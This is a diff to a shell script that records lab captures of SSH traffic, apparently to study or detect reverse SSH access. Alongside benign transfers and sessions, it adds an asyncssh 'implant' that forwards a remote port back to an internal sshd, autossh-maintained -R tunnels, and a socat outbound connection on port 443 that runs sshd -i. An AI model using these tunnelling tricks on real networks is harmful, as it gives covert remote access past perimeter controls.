@@ -2,7 +2,9 @@
 # mkpcaps-trixie.sh - lab captures with Debian 13's SSH software (OpenSSH 10.0p1, paramiko, Go's
 # golang.org/x/crypto/ssh) next to Debian 12's OpenSSH 9.2, the way the field runs them: servers
 # with several host keys and clients that know one (UpdateHostKeys: hostkeys-00 /
-# hostkeys-prove-00 after auth), ObscureKeystrokeTiming chaff, ControlMaster, -N -L, automation.
+# hostkeys-prove-00 after auth), ObscureKeystrokeTiming chaff, ControlMaster, -N -L, automation;
+# asyncssh client and implant, autossh reconnects, a late -R, role inversion with the 10.0
+# client, agent/X11 forwarding, scp/sftp/rsync/git and a long tmux session.
 # Needs root and the trixie chroot of tools/lab-trixie-chroot.sh (made on first use, cached
 # outside the repo); not part of `make test`.
 #
@@ -66,11 +68,21 @@ sshd_conf_extra() {
 	ssh-keygen -q -t rsa -b 3072 -N '' -f "$d/ssh_host_rsa_key"
 	echo "HostKey $d/ssh_host_rsa_key"
 	echo "LogLevel ${SSHD_LOGLEVEL:-INFO}"
+	echo "X11Forwarding yes"
 }
 
 ssh_setup_extra() {
 	mkdir -p "$W/home/user/data"
 	head -c 2500000 /dev/urandom >"$W/blob.bin"
+	# tmux's socket in the lab user's home, not the host's /tmp
+	echo 'export TMUX_TMPDIR=$HOME' >>"$W/home/user/.profile"
+	# a small repository for git over SSH
+	local r=$W/home/user/src
+	git init -q -b main "$r"
+	head -c 60000 /dev/urandom | base64 >"$r/model.py"
+	printf 'lr: 0.001\nbatch: 64\n' >"$r/train.yaml"
+	git -C "$r" add . && git -C "$r" -c user.name=dev -c user.email=dev@lab commit -qm init
+	git clone -q --bare "$r" "$W/home/user/repo.git"
 }
 
 # outside: Debian 12's sshd 9.2 on 198.51.100.7:22, the chroot's sshd 10.0 on 198.51.100.8:22
@@ -341,10 +353,241 @@ do_ossh10_automation() {
 	cap_stop
 }
 
+# ---------------------------------------------------------------- more scenarios (asyncssh,
+# autossh, late -R, role inversion, agent/X11, transfers, tmux)
+
+# asyncssh client in a pty: raw mode, each key sent as it is typed (the typer drives it)
+ASYNC_LOGIN='
+import asyncio, asyncssh, os, sys, termios, tty
+async def main():
+    async with asyncssh.connect(sys.argv[2], username="user", client_keys=[sys.argv[1]],
+                                known_hosts=None) as conn:
+        proc = await conn.create_process(term_type="xterm", term_size=(120, 40),
+                                         encoding=None)
+        loop = asyncio.get_running_loop()
+        old = termios.tcgetattr(0)
+        tty.setraw(0)
+        def rd():
+            d = os.read(0, 1024)
+            if d:
+                proc.stdin.write(d)
+        loop.add_reader(0, rd)
+        try:
+            while True:
+                d = await proc.stdout.read(4096)
+                if not d:
+                    break
+                os.write(1, d)
+        finally:
+            loop.remove_reader(0)
+            termios.tcsetattr(0, termios.TCSADRAIN, old)
+asyncio.run(main())
+'
+do_asyncssh_login() {
+	outside_sshd92
+	echo "$ASYNC_LOGIN" >"$W/alogin.py"
+	login ssh-asyncssh-login 309 "${TX[@]}" "$W/txrun" python3 "$W/alogin.py" \
+	    "$W/keys/id_user" 198.51.100.7
+}
+
+# asyncssh implant: forward_remote_port to the inside sshd; the operator types through it
+ASYNC_IMPLANT='
+import asyncio, asyncssh, sys
+async def main():
+    conn = await asyncssh.connect(sys.argv[2], username="user", client_keys=[sys.argv[1]],
+                                  known_hosts=None)
+    await conn.forward_remote_port("127.0.0.1", int(sys.argv[3]), "127.0.0.1", 22)
+    await conn.wait_closed()
+asyncio.run(main())
+'
+do_asyncssh_rshell() {
+	outside_sshd92
+	train_sshd
+	echo "$ASYNC_IMPLANT" >"$W/aimplant.py"
+	cap_start ssh-asyncssh-rshell
+	bg "$NS_T" "${TX[@]}" "$W/txrun" python3 "$W/aimplant.py" "$W/keys/id_user" \
+	    198.51.100.7 2213 </dev/null 2>"$W/asyncssh.log"
+	local imp=$LASTPID
+	operator 2213 310
+	sleep 2; stop "$imp"; cap_stop
+}
+
+# the per-connection processes of the outside sshd 10.0 (its children): killing them drops
+# the implant's connection the way a broken link or a server restart would
+drop_sshd10_sessions() {
+	local p
+	for p in $(pgrep -P "$SSHD10_PID" || true); do kill "$p" 2>/dev/null || true; done
+}
+
+# autossh keeps an OpenSSH 10 -N -R up: the connection is dropped twice, autossh
+# re-establishes it; the operator types through the second connection
+do_autossh_reconnect() {
+	outside_sshd10
+	train_sshd
+	kopts "$(known_hosts auto10 198.51.100.8 outside10)"
+	cap_start ssh-autossh-reconnect
+	bg "$NS_T" "${TX[@]}" "$W/txrun" env AUTOSSH_GATETIME=0 AUTOSSH_POLL=10 \
+	    autossh -M 0 "${KOPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
+	    -o ServerAliveInterval=5 -o ServerAliveCountMax=2 -R 2215:localhost:22 \
+	    user@198.51.100.8 </dev/null 2>"$W/autossh.log"
+	local imp=$LASTPID
+	wait_listen "$NS_O" 127.0.0.1:2215
+	sleep 4; drop_sshd10_sessions; sleep 1.5
+	operator 2215 311
+	sleep 2; drop_sshd10_sessions; sleep 1.5
+	wait_listen "$NS_O" 127.0.0.1:2215
+	sleep 4; stop "$imp"; cap_stop
+}
+
+# late -R: an inside user's interactive ControlMaster session; two minutes in, while a long
+# command runs, `ssh -O forward -R` asks the master for a remote forward and the outside
+# operator logs in through it and types
+do_ossh10_late_rfwd() {
+	outside_sshd92
+	train_sshd
+	kopts "$(known_hosts late 198.51.100.7 outside)"
+	local S=$W/late.sock
+	cap_start ssh-ossh10-late-rfwd
+	ip netns exec "$NS_T" $SVC typer --seed 312 --timeout 400 --line "uptime" \
+	    --line "ls -la" --line "sleep ${LATE_SLEEP:-170}; echo done" --line "exit" -- \
+	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -M -S "$S" -tt user@198.51.100.7 \
+	    2>>"$W/typer.log" &
+	local typ=$!
+	PIDS+=("$typ")
+	sleep "${LATE_AT:-125}"
+	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -S "$S" -O forward \
+	    -R 2214:localhost:22 user@198.51.100.7
+	operator 2214 313
+	wait "$typ"
+	cap_stop
+}
+
+# role inversion: the outside operator's OpenSSH 10 client reaches an sshd -i that the inside
+# connected out to (socat), through a one-shot listener as its ProxyCommand
+PROXY_LISTEN='
+import socket, sys, os, select
+l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+l.bind((sys.argv[1], int(sys.argv[2]))); l.listen(1)
+c, _ = l.accept(); l.close()
+while True:
+    r, _, _ = select.select([0, c], [], [])
+    if 0 in r:
+        d = os.read(0, 32768)
+        if not d: break
+        c.sendall(d)
+    if c in r:
+        d = c.recv(32768)
+        if not d: break
+        os.write(1, d)
+'
+do_ossh10_role_inversion() {
+	train_sshd
+	local d=$W/sshd-train
+	echo "$PROXY_LISTEN" >"$W/plisten.py"
+	cap_start ssh-ossh10-role-inversion
+	bg "$NS_O" $SVC typer --seed 314 "${RSHELL_LINES[@]}" -- \
+	    "${TX[@]}" "$W/txrun" ssh "${SSH_OPTS[@]}" -tt -o HostKeyAlias=gpu-node-07 \
+	    -o "ProxyCommand=python3 $W/plisten.py 198.51.100.8 443" user@gpu-node-07 \
+	    2>>"$W/typer.log"
+	local op=$LASTPID
+	wait_listen "$NS_O" 198.51.100.8:443
+	sleep 1
+	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" gpu-node-07 \
+	    "socat TCP:198.51.100.8:443 EXEC:'/usr/sbin/sshd -i -e -f $d/sshd_config'")" \
+	    2>"$W/sshd-i.log"
+	local imp=$LASTPID
+	wait "$op"
+	sleep 2
+	stop "$imp"
+	cap_stop
+}
+
+# agent forwarding and an X11 forwarding request in an ordinary typed session (10.0 client):
+# the server opens auth-agent channels and the inside answers them
+do_ossh10_agent_x11() {
+	outside_sshd92
+	kopts "$(known_hosts ax 198.51.100.7 outside)"
+	local sock=$W/agent.sock
+	ip netns exec "$NS_T" ssh-agent -a "$sock" >"$W/agent.env"
+	local agent
+	agent=$(sed -n 's/^SSH_AGENT_PID=\([0-9]*\);.*/\1/p' "$W/agent.env")
+	PIDS+=("$agent")
+	SSH_AUTH_SOCK=$sock ssh-add -q "$W/keys/id_user"
+	cap_start ssh-ossh10-agent-x11
+	ip netns exec "$NS_T" env SSH_AUTH_SOCK="$sock" DISPLAY=:0 $SVC typer --seed 315 \
+	    --line "ssh-add -l" --line 'echo $DISPLAY' --line "hostname" \
+	    --line "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR 198.51.100.7 uptime" \
+	    --line "exit" -- "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -A -X -tt user@198.51.100.7 \
+	    2>>"$W/typer.log"
+	cap_stop
+	kill "$agent" 2>/dev/null || true
+}
+
+# file transfer with the OpenSSH 10 client: scp (SFTP protocol), sftp typed, rsync and git
+do_ossh10_scp() {
+	outside_sshd92
+	kopts "$(known_hosts scp 198.51.100.7 outside)"
+	head -c 400000 /dev/urandom >"$W/ckpt.bin"
+	cap_start ssh-ossh10-scp
+	ip netns exec "$NS_T" "${TX[@]}" "$W/txrun" scp "${KOPTS[@]}" "$W/ckpt.bin" \
+	    user@198.51.100.7:data/ckpt.bin
+	cap_stop
+}
+do_ossh10_sftp() {
+	outside_sshd92
+	kopts "$(known_hosts sftp 198.51.100.7 outside)"
+	mkdir -p "$W/dl"
+	cap_start ssh-ossh10-sftp
+	ip netns exec "$NS_T" $SVC typer --seed 316 --prompt 'sftp> $' --line pwd --line "ls -l" \
+	    --line "cd data" --line ls --line "cd .." --line "lcd $W/dl" --line "get notes.txt" \
+	    --line bye -- "${TX[@]}" "$W/txrun" sftp "${KOPTS[@]}" user@198.51.100.7 \
+	    2>>"$W/typer.log"
+	cap_stop
+}
+do_ossh10_rsync() {
+	outside_sshd92
+	kopts "$(known_hosts rsync 198.51.100.7 outside)"
+	local t=$W/tree i
+	mkdir -p "$t/conf"
+	for i in 1 2 3 4 5; do head -c $((i * 9000)) /dev/urandom | base64 >"$t/mod$i.py"; done
+	for i in a b c; do printf 'lr: 0.0%s\nbatch: 64\n' "$i" >"$t/conf/$i.yaml"; done
+	cap_start ssh-ossh10-rsync
+	ip netns exec "$NS_T" rsync -a -e "${TX[*]} $W/txrun ssh ${KOPTS[*]}" "$t/" \
+	    user@198.51.100.7:data/tree/
+	cap_stop
+}
+do_ossh10_git() {
+	outside_sshd92
+	kopts "$(known_hosts git 198.51.100.7 outside)"
+	local g="${TX[*]} $W/txrun ssh ${KOPTS[*]}"
+	cap_start ssh-ossh10-git
+	ip netns exec "$NS_T" env GIT_SSH_COMMAND="$g" git clone -q \
+	    user@198.51.100.7:repo.git "$W/clone"
+	sleep 1
+	(cd "$W/clone" && echo "epochs: 3" >train.yaml && git add train.yaml &&
+	    git -c user.name=dev -c user.email=dev@lab commit -qm "epochs" &&
+	    ip netns exec "$NS_T" env GIT_SSH_COMMAND="$g" git push -q origin HEAD)
+	cap_stop
+}
+
+# a long tmux session with idle gaps (real time, no time shift)
+do_ossh10_tmux() {
+	outside_sshd92
+	kopts "$(known_hosts tmux 198.51.100.7 outside)"
+	cap_start ssh-ossh10-tmux
+	ip netns exec "$NS_T" env TERM=xterm $SVC typer --seed 317 --prompt '\$ ' --timeout 60 \
+	    --pause "${TMUX_GAP_MIN:-20}" "${TMUX_GAP_MAX:-60}" --line "tmux new -s work" \
+	    --line "uptime" --line "ls -la" --line "cat notes.txt" --line "exit" --line "exit" -- \
+	    "${TX[@]}" "$W/txrun" ssh "${KOPTS[@]}" -tt user@198.51.100.7 2>>"$W/typer.log"
+	cap_stop
+}
+
 # ---------------------------------------------------------------- main
 ALL="ssh-ossh10-to-92-login ssh-ossh92-to-10-login ssh-ossh10-rshell ssh-paramiko-rshell
 ssh-go-rshell ssh-ossh10-controlmaster ssh-ossh10-nL-jupyter ssh-ossh10-ide
-ssh-ossh10-automation"
+ssh-ossh10-automation ssh-asyncssh-login ssh-asyncssh-rshell ssh-autossh-reconnect
+ssh-ossh10-late-rfwd ssh-ossh10-role-inversion ssh-ossh10-agent-x11 ssh-ossh10-scp
+ssh-ossh10-sftp ssh-ossh10-rsync ssh-ossh10-git ssh-ossh10-tmux"
 WANT=${*:-$ALL}
 
 for n in $WANT; do
@@ -359,6 +602,17 @@ for n in $WANT; do
 	ssh-ossh10-nL-jupyter) do_ossh10_nL_jupyter ;;
 	ssh-ossh10-ide) do_ossh10_ide ;;
 	ssh-ossh10-automation) do_ossh10_automation ;;
+	ssh-asyncssh-login) do_asyncssh_login ;;
+	ssh-asyncssh-rshell) do_asyncssh_rshell ;;
+	ssh-autossh-reconnect) do_autossh_reconnect ;;
+	ssh-ossh10-late-rfwd) do_ossh10_late_rfwd ;;
+	ssh-ossh10-role-inversion) do_ossh10_role_inversion ;;
+	ssh-ossh10-agent-x11) do_ossh10_agent_x11 ;;
+	ssh-ossh10-scp) do_ossh10_scp ;;
+	ssh-ossh10-sftp) do_ossh10_sftp ;;
+	ssh-ossh10-rsync) do_ossh10_rsync ;;
+	ssh-ossh10-git) do_ossh10_git ;;
+	ssh-ossh10-tmux) do_ossh10_tmux ;;
 	*) log "unknown capture: $n"; exit 2 ;;
 	esac
 done
